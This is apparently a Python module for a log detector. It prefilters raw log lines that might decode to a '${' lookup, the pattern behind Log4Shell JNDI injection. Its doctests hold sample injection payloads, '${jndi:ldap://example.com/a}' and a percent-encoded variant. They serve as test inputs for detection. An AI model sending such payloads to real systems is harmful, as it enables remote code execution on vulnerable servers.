"""A prefilter over raw log bytes that never rejects a line the engine would flag.

Why it is sound. Every lookup needs the two characters ``${`` side by side after
all transport decodings. Each decoder (:mod:`detectors.decoding`, and the log's
own quoting that a parser undoes: Apache ``\\c``, nginx ``\\xHH``, JSON string
escapes) turns one escape sequence into one non-empty text and leaves the rest
alone; and every escape sequence is written only with characters from
``C = {$ { % \\ & # ;}`` plus the ASCII letters and digits. Take the first decoding step
that produces a character of ``C`` from an escape: every character of that escape
is in ``C`` and none was produced by an earlier escape, so the escape is in the
raw line as it stands. Hence a line whose decoded form holds ``${`` either holds
``${`` itself or holds, verbatim, an escape that decodes to a character of ``C`` —
and that is what :data:`TRIGGER` matches. Base64 (``Authorization: Basic``) is
the one decoding that maps plain letters to anything; lines with a ``Basic``
token are decoded here and the test is repeated on the credentials.

Percent-escapes of ``/ : = ? space ( ) , "`` and of non-ASCII bytes — the usual
content of benign URLs — do not trigger, so benign traffic passes at C speed.
"""

from __future__ import annotations

import html.entities
import re
import string

from detectors.decoding import b64decode_loose

#: Characters that escape sequences are written with (see the module docstring).
ESCAPE_ALPHABET = frozenset("${%\\&#;" + string.ascii_letters + string.digits)


def _hex_codes(chars: frozenset[str]) -> bytes:
    """A regex alternation matching the two hex digits of each char, any case."""
    by_high: dict[str, set[str]] = {}
    for c in chars:
        code = f"{ord(c):02x}"
        by_high.setdefault(code[0], set()).add(code[1])
    parts = []
    for high, lows in sorted(by_high.items()):
        cls = "".join(sorted({d for low in lows for d in {low, low.upper()}}))
        parts.append(f"{high}[{cls}]")

    return ("(?:" + "|".join(parts) + ")").encode()


def _entity_names(chars: frozenset[str]) -> bytes:
    names = sorted(
        {n.rstrip(";") for n, v in html.entities.html5.items() if v in chars},
        key=lambda n: (-len(n), n),
    )

    return ("(?:" + "|".join(re.escape(n) for n in names) + ")").encode()


_CODES = _hex_codes(ESCAPE_ALPHABET)
_NOT_X = "".join(sorted(ESCAPE_ALPHABET - {"x"})).encode()
_TRIGGER_SOURCE = (
    rb"\$\{"
    rb"|%" + _CODES + rb"|%[uU]"
    rb"|\\(?:[" + re.escape(_NOT_X) + rb"]|x" + _CODES + rb"|x(?![0-9A-Fa-f]{2}))"
    rb"|&(?:#|" + _entity_names(ESCAPE_ALPHABET) + rb")"
)
#: Matches a raw line that may hold ``${`` after decoding (base64 aside).
TRIGGER = re.compile(_TRIGGER_SOURCE)
_BASIC_TOKEN = re.compile(rb"[Bb]asic[ \t]+([A-Za-z0-9+/_-]{4,}={0,3})")
_MAX_BASE64_NESTING = 2


def may_contain_lookup(data: bytes) -> bool:
    """False only when no decoding the engine applies can make ``data`` hold a lookup.

    Example:
        >>> may_contain_lookup(b'GET /index.html?q=%2Fa HTTP/1.1')
        False
        >>> may_contain_lookup(b'GET /?x=%2524%257Bjndi:ldap://example.com/a%257D')
        True
    """
    return _check(data, 0)


def _check(data: bytes, nesting: int) -> bool:
    # Every trigger starts with one of these bytes; `in` on one byte runs at
    # memchr speed, so a clean record costs four short scans.
    if b"$" in data and b"${" in data:
        return True
    if (b"%" in data or b"\\" in data or b"&" in data) and TRIGGER.search(data):
        return True
    if b"asic" not in data:
        return False

    return _basic_may_contain(data, nesting)


def _basic_may_contain(data: bytes, nesting: int) -> bool:
    if nesting >= _MAX_BASE64_NESTING:
        return True
    for match in _BASIC_TOKEN.finditer(data):
        decoded = b64decode_loose(match.group(1))
        if decoded is None:
            continue
        if _check(decoded, nesting + 1):
            return True

    return False


def find_candidates(buffer: bytes) -> list[int]:
    """0-based indices of the lines of ``buffer`` that may hold a lookup.

    Lines are separated by ``\\n``. Agrees with :func:`may_contain_lookup` line by
    line. Byte searches (memchr speed) find the few lines holding ``${``, ``%``,
    ``\\``, ``&`` or ``asic``; only those lines see a regex or any Python code.

    Example:
        >>> find_candidates(b"GET / HTTP/1.1\\nGET /${jndi:ldap://example.com/a}\\n")
        [1]
    """
    size = len(buffer)
    find = buffer.find
    rfind = buffer.rfind
    # line start -> (first interesting byte, line end), for lines that have one
    spans: dict[int, tuple[int, int]] = {}
    for needle in (b"$", b"%", b"\\", b"&", b"asic"):
        pos = 0
        while True:
            hit = find(needle, pos)
            if hit < 0:
                break
            start = rfind(b"\n", 0, hit) + 1
            end = find(b"\n", hit)
            if end < 0:
                end = size
            known = spans.get(start)
            if known is None or hit < known[0]:
                spans[start] = (hit, end)
            pos = end + 1
    found_starts = []
    search = TRIGGER.search
    for start in sorted(spans):
        first, end = spans[start]
        # No trigger can begin before the line's first $ % \\ & byte.
        if (
            find(b"${", first, end) >= 0
            or search(buffer, first, end) is not None
            or (find(b"asic", start, end) >= 0 and _check(buffer[start:end], 0))
        ):
            found_starts.append(start)
    indices = []
    line = 0
    previous = 0
    count = buffer.count
    for start in found_starts:
        line += count(b"\n", previous, start)
        previous = start
        indices.append(line)

    return indices
